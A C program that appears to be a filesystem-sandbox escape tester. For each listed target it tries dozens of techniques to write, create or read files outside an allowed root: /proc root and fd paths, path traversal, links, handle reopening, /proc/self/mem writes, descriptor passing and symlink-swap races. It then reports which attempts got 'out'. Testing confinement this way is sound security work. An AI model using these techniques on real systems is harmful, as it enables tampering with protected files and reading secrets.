// Every way to change or read a file that this program knows, on every target that
// it is given. See README.md for what it reads and prints.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/fs.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static const char *root;       // where the program may write
static int serial;
static char dir[PATH_MAX];     // the directory of the target
static const char *base;       // the target's name in it

static const char *mine(const char *what) { // a new name below the root
	static char name[4][PATH_MAX];
	static int i;
	char *n = name[i++ & 3];
	snprintf(n, PATH_MAX, "%s/loot/%s%d-%d", root, what, getpid(), serial++);
	return n;
}
static const char *fmt(const char *f, ...) {
	static char name[4][PATH_MAX];
	static int i;
	char *n = name[i++ & 3];
	va_list l;
	va_start(l, f);
	vsnprintf(n, PATH_MAX, f, l);
	va_end(l);
	return n;
}
static const char *file(void) { // a file of its own that holds something
	const char *n = mine("own");
	int fd = open(n, O_WRONLY | O_CREAT, 0600);
	if (fd < 0 || write(fd, "EVIL", 4) != 4) _exit(3);
	close(fd);
	return n;
}
static int put(int fd) { return fd < 0 ? -1 : write(fd, "EVIL", 4) == 4 ? 0 : -1; }
static int opens(const char *p, int flags) { return put(open(p, flags, 0600)); }
static int ro(const char *p) { return open(p, O_RDONLY | O_NONBLOCK); }
static int dirfd_of(void) { return open(dir, O_PATH | O_DIRECTORY); }
struct how { uint64_t flags, mode, resolve; };
static int openat2_(int at, const char *p, uint64_t flags, uint64_t resolve) {
	struct how h = {flags, flags & O_CREAT ? 0600 : 0, resolve};
	return syscall(437, at, p, &h, sizeof h);
}

// Changing a file that is there.
static int w_wronly(const char *p) { return opens(p, O_WRONLY); }
static int w_rdwr(const char *p) { return opens(p, O_RDWR); }
static int w_append(const char *p) { return opens(p, O_WRONLY | O_APPEND); }
static int w_direct(const char *p) { return open(p, O_WRONLY | O_DIRECT | O_SYNC) < 0 ? -1 : 0; }
static int w_mode3(const char *p) { int fd = open(p, 3); return fd < 0 ? -1 : ioctl(fd, FS_IOC_SETFLAGS, &(int){0}); }
static int w_trunc(const char *p) { return open(p, O_RDONLY | O_TRUNC) < 0 ? -1 : 0; }
static int w_creat(const char *p) { return put(creat(p, 0600)); }
static int w_openat(const char *p) { (void)p; return put(openat(dirfd_of(), base, O_WRONLY)); }
static int w_openat2(const char *p) { return put(openat2_(AT_FDCWD, p, O_WRONLY, 0)); }
static int w_inroot(const char *p) { return put(openat2_(open("/", O_PATH), p, O_WRONLY, 0x10)); }
static int w_beneath(const char *p) { (void)p; return put(openat2_(dirfd_of(), base, O_WRONLY, 0x08)); }
static int w_fchdir(const char *p) { (void)p; return fchdir(dirfd_of()) ? -1 : opens(base, O_WRONLY); }
static int w_procroot(const char *p) { return opens(fmt("/proc/self/root%s", p), O_WRONLY); }
static int w_threadroot(const char *p) { return opens(fmt("/proc/thread-self/root%s", p), O_WRONLY); }
static int w_proccwd(const char *p) { (void)p; return chdir(dir) ? -1 : opens(fmt("/proc/self/cwd/%s", base), O_WRONLY); }
static int w_parentroot(const char *p) { return opens(fmt("/proc/%d/root%s", getppid(), p), O_WRONLY); }
static int w_initroot(const char *p) { return opens(fmt("/proc/1/root%s", p), O_WRONLY); }
static int w_reopen(const char *p) { return opens(fmt("/proc/self/fd/%d", ro(p)), O_WRONLY); }
static int w_reopenpath(const char *p) { return opens(fmt("/proc/self/fd/%d", open(p, O_PATH)), O_WRONLY); }
static int w_devfd(const char *p) { return opens(fmt("/dev/fd/%d", ro(p)), O_WRONLY); }
static int w_dirfd(const char *p) { (void)p; return opens(fmt("/proc/self/fd/%d/%s", dirfd_of(), base), O_WRONLY); }
static int w_dots(const char *p) { return opens(fmt("%s/../../../../../../../../../..%s", root, p), O_WRONLY); }
static int w_truncate(const char *p) { return truncate(p, 1); }
static int w_ftruncate(const char *p) { return ftruncate(ro(p), 1); }
static int w_fallocate(const char *p) { return fallocate(ro(p), 0, 0, 100); }
static int w_punch(const char *p) { return fallocate(ro(p), 3, 0, 2); }
static int w_mmap(const char *p) {
	char *m = mmap(0, 4, PROT_READ | PROT_WRITE, MAP_SHARED, ro(p), 0);
	return m == MAP_FAILED ? -1 : (m[0] = 'E', 0);
}
static int w_mprotect(const char *p) {
	char *m = mmap(0, 4, PROT_READ, MAP_SHARED, ro(p), 0);
	if (m == MAP_FAILED || mprotect(m, 4, PROT_READ | PROT_WRITE)) return -1;
	m[0] = 'E';
	return 0;
}
static int w_selfmem(const char *p) { // the kernel writes where the process may not, were the mapping not private
	char *m = mmap(0, 4, PROT_READ, MAP_SHARED, ro(p), 0);
	int fd = open("/proc/self/mem", O_RDWR);
	return m == MAP_FAILED || fd < 0 ? -1 : pwrite(fd, "EVIL", 4, (off_t)(uintptr_t)m) == 4 ? 0 : -1;
}
static int w_copyrange(const char *p) { return copy_file_range(ro(file()), 0, open(p, O_WRONLY), 0, 4, 0) > 0 ? 0 : -1; }
static int w_copyro(const char *p) { return copy_file_range(ro(file()), 0, ro(p), 0, 4, 0) > 0 ? 0 : -1; }
static int w_sendfile(const char *p) { return sendfile(ro(p), ro(file()), 0, 4) > 0 ? 0 : -1; }
static int w_splice(const char *p) {
	int fds[2];
	if (pipe(fds) || write(fds[1], "EVIL", 4) != 4) return -1;
	return splice(fds[0], 0, ro(p), 0, 4, 0) > 0 ? 0 : -1;
}
static int w_clone(const char *p) { return ioctl(ro(p), FICLONE, ro(file())); }
static int w_dedupe(const char *p) {
	struct { struct file_dedupe_range r; struct file_dedupe_range_info i; } a = {{0, 4, 1, 0, 0}, {ro(file()), 0, 0, 0, 0}};
	return ioctl(ro(p), FIDEDUPERANGE, &a);
}
static int w_link(const char *p) { const char *n = mine("hard"); return link(p, n) ? -1 : opens(n, O_WRONLY); }
static int w_linkfd(const char *p) { const char *n = mine("hard"); return linkat(open(p, O_PATH), "", AT_FDCWD, n, AT_EMPTY_PATH) ? -1 : opens(n, O_WRONLY); }
static int w_linkproc(const char *p) { const char *n = mine("hard"); return linkat(AT_FDCWD, fmt("/proc/self/fd/%d", ro(p)), AT_FDCWD, n, AT_SYMLINK_FOLLOW) ? -1 : opens(n, O_WRONLY); }
static int w_symlink(const char *p) { const char *n = mine("soft"); return symlink(p, n) ? -1 : opens(n, O_WRONLY); }
static int w_symdir(const char *p) { (void)p; const char *n = mine("softdir"); return symlink(dir, n) ? -1 : opens(fmt("%s/%s", n, base), O_WRONLY); }
static int w_symchain(const char *p) {
	const char *a = mine("a"), *b = mine("b");
	return symlink(p, a) || symlink(a, b) ? -1 : opens(b, O_WRONLY);
}
static int w_away(const char *p) { return rename(p, mine("stolen")); }
static int w_awaynear(const char *p) { return rename(p, fmt("%s.moved", p)); }
static int w_over(const char *p) { return rename(file(), p); }
static int w_exchange(const char *p) { return renameat2(AT_FDCWD, file(), AT_FDCWD, p, RENAME_EXCHANGE); }
static int w_exchangeback(const char *p) { return renameat2(AT_FDCWD, p, AT_FDCWD, file(), RENAME_EXCHANGE); }
static int w_whiteout(const char *p) { return renameat2(AT_FDCWD, p, AT_FDCWD, mine("white"), RENAME_WHITEOUT); }
static int w_unlink(const char *p) { return unlink(p); }
static int w_unlinkat(const char *p) { (void)p; return unlinkat(dirfd_of(), base, 0); }
static int outside(const char *p) { return strncmp(p, root, strlen(root)) || p[strlen(root)] != '/'; } // inside, a directory may be moved with what it holds
static int w_dirmoved(const char *p) { return outside(p) ? rename(dir, mine("dir")) : -1; }
static int w_dirswap(const char *p) { const char *n = mine("dir"); return !outside(p) || mkdir(n, 0700) || renameat2(AT_FDCWD, n, AT_FDCWD, dir, RENAME_EXCHANGE) ? -1 : 0; }
static int w_chmod(const char *p) { return chmod(p, 0666); }
static int w_fchmod(const char *p) { return fchmod(ro(p), 0666); }
static int w_fchmodat(const char *p) { (void)p; return fchmodat(dirfd_of(), base, 0666, 0); }
static int w_fchmodat2(const char *p) { return syscall(452, AT_FDCWD, p, 0666, 0x100); }
static int w_fchmodempty(const char *p) { return syscall(452, open(p, O_PATH), "", 0666, AT_EMPTY_PATH); }
static int w_chmodproc(const char *p) { return chmod(fmt("/proc/self/fd/%d", open(p, O_PATH)), 0666); }
static int w_chmodlink(const char *p) { const char *n = mine("soft"); return symlink(p, n) ? -1 : chmod(n, 0666); }
static int w_chown(const char *p) { return chown(p, getuid(), getgid()); }
static int w_lchown(const char *p) { return lchown(p, getuid(), getgid()); }
static int w_fchown(const char *p) { return fchown(ro(p), getuid(), getgid()); }
static int w_fchownat(const char *p) { return fchownat(open(p, O_PATH), "", getuid(), getgid(), AT_EMPTY_PATH); }
static int w_utimes(const char *p) { return utimes(p, (struct timeval[2]){{1, 0}, {1, 0}}); }
static int w_lutimes(const char *p) { return lutimes(p, (struct timeval[2]){{1, 0}, {1, 0}}); }
static int w_utimensat(const char *p) { return utimensat(AT_FDCWD, p, (struct timespec[2]){{2, 0}, {2, 0}}, 0); }
static int w_futimens(const char *p) { return futimens(ro(p), (struct timespec[2]){{3, 0}, {3, 0}}); }
static int w_utimesempty(const char *p) { return utimensat(open(p, O_PATH), "", (struct timespec[2]){{4, 0}, {4, 0}}, AT_EMPTY_PATH); }
static int w_setxattr(const char *p) { return setxattr(p, "user.evil", "x", 1, 0); }
static int w_lsetxattr(const char *p) { return lsetxattr(p, "user.evil", "x", 1, 0); }
static int w_fsetxattr(const char *p) { return fsetxattr(ro(p), "user.evil", "x", 1, 0); }
static int w_acl(const char *p) { return setxattr(p, "system.posix_acl_access", "\2\0\0\0\1\0\6\0\377\377\377\377\4\0\6\0\377\377\377\377\40\0\6\0\377\377\377\377", 28, 0); }
static int w_setflags(const char *p) { int f = 0x40; return ioctl(ro(p), FS_IOC_SETFLAGS, &f); }
static int w_handle(const char *p) {
	struct { struct file_handle h; char b[128]; } h;
	int id;
	h.h.handle_bytes = 128;
	if (name_to_handle_at(AT_FDCWD, p, &h.h, &id, 0)) return -1;
	return put(open_by_handle_at(open(root, O_RDONLY | O_DIRECTORY), &h.h, O_WRONLY));
}
static int w_passed(const char *p) { // a descriptor that a second process opens and hands over
	int pair[2];
	char c[CMSG_SPACE(4)] = {0}, b = 0;
	struct iovec v = {&b, 1};
	struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = c, .msg_controllen = sizeof c};
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return -1;
	if (fork() == 0) {
		int fd = open(p, O_WRONLY);
		struct cmsghdr *h = CMSG_FIRSTHDR(&m);
		if (fd < 0) _exit(1);
		h->cmsg_level = SOL_SOCKET, h->cmsg_type = SCM_RIGHTS, h->cmsg_len = CMSG_LEN(4);
		memcpy(CMSG_DATA(h), &fd, 4);
		sendmsg(pair[1], &m, 0);
		_exit(0);
	}
	close(pair[1]);
	if (recvmsg(pair[0], &m, 0) <= 0 || !CMSG_FIRSTHDR(&m)) return -1;
	int fd;
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&m)), 4);
	return put(fd);
}

// A thread swaps a link between a file of ours and the target.
static volatile int racing;
static const char *raced[3];
static void *swap(void *x) {
	while (racing) {
		renameat2(AT_FDCWD, raced[0], AT_FDCWD, raced[1], RENAME_EXCHANGE);
	}
	return x;
}
static int race(const char *p, int (*f)(const char *)) {
	pthread_t t;
	struct stat before, after;
	raced[0] = strdup(mine("race")), raced[1] = strdup(mine("race"));
	if (symlink(p, raced[1]) || symlink(file(), raced[0]) || stat(p, &before)) return -1;
	racing = 1;
	pthread_create(&t, 0, swap, 0);
	for (int i = 0; i < 150; i++) f(raced[0]);
	racing = 0;
	pthread_join(t, 0);
	return stat(p, &after) || before.st_ctim.tv_nsec != after.st_ctim.tv_nsec || before.st_ctim.tv_sec != after.st_ctim.tv_sec ? 0 : (errno = EACCES, -1);
}
static int w_raceopen(const char *p) { return race(p, w_wronly); }
static int w_racechmod(const char *p) { return race(p, w_chmod); }
static int w_racechown(const char *p) { return race(p, w_chown); }
static int w_racetimes(const char *p) { return race(p, w_utimes); }
static int w_racexattr(const char *p) { return race(p, w_setxattr); }
static int w_racetruncate(const char *p) { return race(p, w_truncate); }

// Making what is not there.
static int n_creat(const char *p) { return opens(p, O_WRONLY | O_CREAT); }
static int n_excl(const char *p) { return opens(p, O_WRONLY | O_CREAT | O_EXCL); }
static int n_openat2(const char *p) { return put(openat2_(AT_FDCWD, p, O_WRONLY | O_CREAT, 0)); }
static int n_openat(const char *p) { (void)p; return put(openat(dirfd_of(), base, O_WRONLY | O_CREAT, 0600)); }
static int n_procroot(const char *p) { return opens(fmt("/proc/self/root%s", p), O_WRONLY | O_CREAT); }
static int n_mkdir(const char *p) { return mkdir(p, 0700); }
static int n_mkdirat(const char *p) { (void)p; return mkdirat(dirfd_of(), base, 0700); }
static int n_fifo(const char *p) { return mkfifo(p, 0600); }
static int n_mknod(const char *p) { return mknod(p, S_IFREG | 0600, 0); }
static int n_symlink(const char *p) { return symlink("/etc/hostname", p); }
static int n_dangling(const char *p) { const char *n = mine("soft"); return symlink(p, n) ? -1 : opens(n, O_WRONLY | O_CREAT); }
static int n_link(const char *p) { return link(file(), p); }
static int n_tmpfile(const char *p) { int fd = open(fmt("%s/loot", root), O_TMPFILE | O_RDWR, 0600); return linkat(AT_FDCWD, fmt("/proc/self/fd/%d", fd), AT_FDCWD, p, AT_SYMLINK_FOLLOW); }
static int n_tmpthere(const char *p) { return linkat(AT_FDCWD, fmt("/proc/self/fd/%d", open(dir, O_TMPFILE | O_RDWR, 0600)), AT_FDCWD, p, AT_SYMLINK_FOLLOW); }
static int n_rename(const char *p) { return rename(file(), p); }
static int n_noreplace(const char *p) { return renameat2(AT_FDCWD, file(), AT_FDCWD, p, RENAME_NOREPLACE); }
static int n_dirrename(const char *p) { const char *n = mine("dir"); return mkdir(n, 0700) ? -1 : rename(n, p); }
static int n_bind(const char *p) {
	struct sockaddr_un a = {AF_UNIX, ""};
	if (chdir(dir)) return -1;
	strncpy(a.sun_path, base, sizeof a.sun_path - 1);
	(void)p;
	return bind(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&a, sizeof a);
}
static int n_symdir(const char *p) { (void)p; const char *n = mine("softdir"); return symlink(dir, n) ? -1 : opens(fmt("%s/%s", n, base), O_WRONLY | O_CREAT); }

// Reading. What is read is printed, for the runner to find.
static int show(int fd) {
	char b[4096];
	ssize_t n = fd < 0 ? -1 : read(fd, b, sizeof b);
	if (n > 0) write(1, b, n), write(1, "\n", 1);
	return n > 0 ? 0 : -1;
}
static int r_open(const char *p) { return show(ro(p)); }
static int r_rdwr(const char *p) { return show(open(p, O_RDWR)); }
static int r_openat(const char *p) { (void)p; return show(openat(dirfd_of(), base, O_RDONLY)); }
static int r_openat2(const char *p) { return show(openat2_(AT_FDCWD, p, O_RDONLY, 0)); }
static int r_procroot(const char *p) { return show(ro(fmt("/proc/self/root%s", p))); }
static int r_parentroot(const char *p) { return show(ro(fmt("/proc/%d/root%s", getppid(), p))); }
static int r_initroot(const char *p) { return show(ro(fmt("/proc/1/root%s", p))); }
static int r_path(const char *p) { return show(ro(fmt("/proc/self/fd/%d", open(p, O_PATH)))); }
static int r_mmap(const char *p) {
	char *m = mmap(0, 4096, PROT_READ, MAP_PRIVATE, ro(p), 0);
	return m == MAP_FAILED ? -1 : (puts(m), 0);
}
static int r_sendfile(const char *p) { const char *n = mine("loot"); return sendfile(open(n, O_WRONLY | O_CREAT, 0600), ro(p), 0, 4096) > 0 ? 0 : -1; }
static int r_copyrange(const char *p) { const char *n = mine("loot"); return copy_file_range(ro(p), 0, open(n, O_WRONLY | O_CREAT, 0600), 0, 4096, 0) > 0 ? 0 : -1; }
static int r_clone(const char *p) { const char *n = mine("loot"); return ioctl(open(n, O_WRONLY | O_CREAT, 0600), FICLONE, ro(p)); }
static int r_link(const char *p) { const char *n = mine("hard"); return link(p, n) ? -1 : show(ro(n)); }
static int r_linkfd(const char *p) { const char *n = mine("hard"); return linkat(open(p, O_PATH), "", AT_FDCWD, n, AT_EMPTY_PATH) ? -1 : show(ro(n)); }
static int r_symlink(const char *p) { const char *n = mine("soft"); return symlink(p, n) ? -1 : show(ro(n)); }
static int r_rename(const char *p) { const char *n = mine("stolen"); return rename(p, n) ? -1 : show(ro(n)); }
static int r_exchange(const char *p) { const char *n = file(); return renameat2(AT_FDCWD, n, AT_FDCWD, p, RENAME_EXCHANGE) ? -1 : show(ro(n)); }
static int r_dirmoved(const char *p) {
	const char *n = mine("dir");
	(void)p;
	if (rename(dir, n)) return -1;
	int e = show(ro(fmt("%s/%s", n, base)));
	return rename(n, dir) ? 0 : e;
}
static int r_chmod(const char *p) { chmod(p, 0666); return show(ro(p)); }
static int r_handle(const char *p) {
	struct { struct file_handle h; char b[128]; } h;
	int id;
	h.h.handle_bytes = 128;
	if (name_to_handle_at(AT_FDCWD, p, &h.h, &id, 0)) return -1;
	return show(open_by_handle_at(open(root, O_RDONLY | O_DIRECTORY), &h.h, O_RDONLY));
}
static int r_exec(const char *p) { // an interpreter that says what it does not understand
	return execl("/bin/sh", "sh", p, (char *)0);
}
static int r_xattr(const char *p) { char b[256]; ssize_t n = getxattr(p, "user.secret", b, 255); return n > 0 ? (b[n] = 0, puts(b), 0) : -1; }
static int r_raceopen(const char *p) {
	pthread_t t;
	int got = -1;
	raced[0] = strdup(mine("race")), raced[1] = strdup(mine("race"));
	if (symlink(p, raced[1]) || symlink("/etc/hostname", raced[0])) return -1;
	racing = 1;
	pthread_create(&t, 0, swap, 0);
	for (int i = 0; i < 150; i++) {
		char b[64] = "";
		int fd = ro(raced[0]);
		if (fd >= 0 && read(fd, b, 63) > 0 && strstr(b, "CANAR")) puts(b), got = 0;
		if (fd >= 0) close(fd);
	}
	racing = 0;
	pthread_join(t, 0);
	return got;
}

#define F(x) {#x, x}
struct way { const char *name; int (*f)(const char *); };
static struct way change[] = {F(w_wronly), F(w_rdwr), F(w_append), F(w_direct), F(w_mode3), F(w_trunc), F(w_creat), F(w_openat), F(w_openat2), F(w_inroot), F(w_beneath), F(w_fchdir), F(w_procroot), F(w_threadroot), F(w_proccwd), F(w_parentroot), F(w_initroot), F(w_reopen), F(w_reopenpath), F(w_devfd), F(w_dirfd), F(w_dots), F(w_truncate), F(w_ftruncate), F(w_fallocate), F(w_punch), F(w_mmap), F(w_mprotect), F(w_selfmem), F(w_copyrange), F(w_copyro), F(w_sendfile), F(w_splice), F(w_clone), F(w_dedupe), F(w_link), F(w_linkfd), F(w_linkproc), F(w_symlink), F(w_symdir), F(w_symchain), F(w_chmod), F(w_fchmod), F(w_fchmodat), F(w_fchmodat2), F(w_fchmodempty), F(w_chmodproc), F(w_chmodlink), F(w_chown), F(w_lchown), F(w_fchown), F(w_fchownat), F(w_utimes), F(w_lutimes), F(w_utimensat), F(w_futimens), F(w_utimesempty), F(w_setxattr), F(w_lsetxattr), F(w_fsetxattr), F(w_acl), F(w_setflags), F(w_handle), F(w_passed), F(w_raceopen), F(w_racechmod), F(w_racechown), F(w_racetimes), F(w_racexattr), F(w_racetruncate), F(w_whiteout), F(w_exchange), F(w_exchangeback), F(w_over), F(w_away), F(w_awaynear), F(w_unlink), F(w_unlinkat), F(w_dirmoved), F(w_dirswap), {0, 0}};
static struct way make[] = {F(n_creat), F(n_excl), F(n_openat2), F(n_openat), F(n_procroot), F(n_mkdir), F(n_mkdirat), F(n_fifo), F(n_mknod), F(n_symlink), F(n_dangling), F(n_link), F(n_tmpfile), F(n_tmpthere), F(n_rename), F(n_noreplace), F(n_dirrename), F(n_bind), F(n_symdir), {0, 0}};
static struct way reads[] = {F(r_open), F(r_rdwr), F(r_openat), F(r_openat2), F(r_procroot), F(r_parentroot), F(r_initroot), F(r_path), F(r_mmap), F(r_sendfile), F(r_copyrange), F(r_clone), F(r_link), F(r_linkfd), F(r_symlink), F(r_chmod), F(r_handle), F(r_exec), F(r_xattr), F(r_raceopen), F(r_rename), F(r_exchange), F(r_dirmoved), {0, 0}};

int main(int argc, char **argv) {
	char line[PATH_MAX + 64], *fresh = getenv("ATTACK_FRESH"); // makes again what the attempt before has changed
	FILE *targets = argc > 1 ? fopen(argv[1], "r") : 0;
	root = getenv("ATTACK_ROOT");
	if (!targets || !root || chdir(root)) return 2;
	setvbuf(stdout, 0, _IONBF, 0);
	mkdir(fmt("%s/loot", root), 0700);
	while (fgets(line, sizeof line, targets)) {
		char *kind = strtok(line, "\t"), *path = strtok(0, "\n");
		if (!path) continue;
		struct way *w = !strcmp(kind, "secret") ? reads : !strcmp(kind, "new") || !strcmp(kind, "plant") ? make : change;
		snprintf(dir, sizeof dir, "%s", path);
		char *slash = strrchr(dir, '/');
		base = path + (slash - dir) + 1;
		*slash = 0;
		for (; w->name; w++) {
			int st = 0;
			if (fresh && system(fresh)) return 2;
			pid_t child = fork();
			if (child == 0) {
				alarm(10);
				errno = 0;
				int e = w->f(path);
				_exit(e == 0 ? 0 : 1 + (errno & 127));
			}
			waitpid(child, &st, 0);
			printf("C %s %s %s\t%s\n", w->name, kind, path, WIFEXITED(st) && WEXITSTATUS(st) == 0 ? "out" : "held");
		}
	}
	return 0;
}
